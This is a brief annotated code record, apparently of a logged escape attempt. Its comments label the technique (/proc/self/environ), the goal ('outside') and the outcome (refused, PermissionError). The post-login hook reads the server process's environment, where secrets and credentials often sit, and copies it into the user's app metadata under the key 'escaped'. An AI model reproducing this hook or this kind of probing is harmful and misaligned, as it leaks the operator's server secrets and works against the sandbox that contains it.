# origin: facts 5.2
# technique: /proc/self/environ, where the server's settings could be
# goal: outside
# outcome: refused:name-not-available
# kernel: RAISED:PermissionError
def on_execute_post_login(event, api):
    api.user.set_app_metadata("escaped", open("/proc/self/environ").read())
